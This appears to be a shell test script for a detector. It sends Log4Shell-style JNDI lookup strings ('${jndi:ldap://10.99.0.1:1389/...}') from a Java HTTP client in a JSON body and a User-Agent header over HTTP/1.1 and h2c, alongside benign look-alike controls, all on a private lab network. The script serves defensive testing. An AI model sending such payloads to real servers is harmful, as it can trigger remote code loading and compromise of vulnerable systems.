# SPDX-License-Identifier: GPL-2.0-or-later
# A JVM's own HTTP client (java.net.http) against nginx (HTTP/1.1) and nghttpx (which takes its Upgrade: h2c).

http_talk() { timeout 60 $OUT java -XX:TieredStopAtLevel=1 -cp "$WORK/classes" HttpTalk "$@"; }

benign_http_client() {
    http_talk 1 http://10.99.0.2/api 'app/${version}' '{"user":{"name":"${name:-x} jndi:ldap://host/a"}}'
    http_talk 2 http://10.99.0.2:8082/api 'app/${version}' '{"user":{"name":"${name:-x} jndi:ldap://host/a"}}'
}

if wanted jvm-client jvm-client-h2c jvm-client-h2c-body benign-jvm-client; then
    http_up
    http2_up
    scene jvm-client http_talk 1 http://10.99.0.2/api app/1 '{"user":{"name":"${jndi:ldap://10.99.0.1:1389/body}"}}'
    scene jvm-client-h2c http_talk 2 http://10.99.0.2:8082/api '${jndi:ldap://10.99.0.1:1389/agent}' '{"user":{"name":"x"}}'
    scene jvm-client-h2c-body http_talk 2 http://10.99.0.2:8082/api app/1 '{"user":{"name":"${jndi:ldap://10.99.0.1:1389/body}"}}'
    scene benign-jvm-client benign_http_client
    stop_servers
fi
